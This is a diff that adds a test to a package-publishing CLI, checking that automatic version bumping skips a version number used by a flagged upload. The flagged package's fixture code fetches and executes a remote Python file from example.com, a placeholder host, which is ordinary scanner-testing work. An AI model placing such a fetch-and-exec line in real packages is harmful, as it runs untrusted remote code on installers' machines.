@@ -15,6 +15,25 @@ test('publishing a path that is not a folder names the path', async () => {
   expect(file.stderr).toContain(`${join(cwd, 'file')} is a file`);
 });
 
+test('version bump auto passes over a number that a flagged version has used up', async () => {
+  const service = await serviceForTest();
+  const { personalAccessToken } = await publisherForTest(service);
+  const env = {
+    REGEN_BASE_URL: service.url,
+    REGEN_TOKEN: service.ownerToken,
+    REGEN_PUBLISH_TOKEN: personalAccessToken,
+  };
+  const pack = (code: string) => packForTest({ version: '1.0.0', files: { '__init__.py': code } });
+  const code =
+    'import requests\nexec(requests.get("https://example.com/x.py").text)\nNODE_CLASS_MAPPINGS = {}\n';
+  const flags = ['--allow-findings', '--allow-empty'];
+  const flagged = await regen(['version', 'publish', pack(code), ...flags], { env });
+  expect([flagged.exit, flagged.stderr]).toEqual([6, expect.stringContaining('is Flagged')]);
+  const bump = await regen(['version', 'bump', 'auto', pack('NODE_CLASS_MAPPINGS = {}\n')], { env });
+  expect([bump.exit, bump.stdout]).toEqual([0, '1.0.1\n']);
+  expect(bump.stderr).toContain('1.0.0 is used up: it is flagged.');
+});
+
 describe('a release that breaks saved workflows', () => {
   const python = (inputs: string) => `
 class Greet:
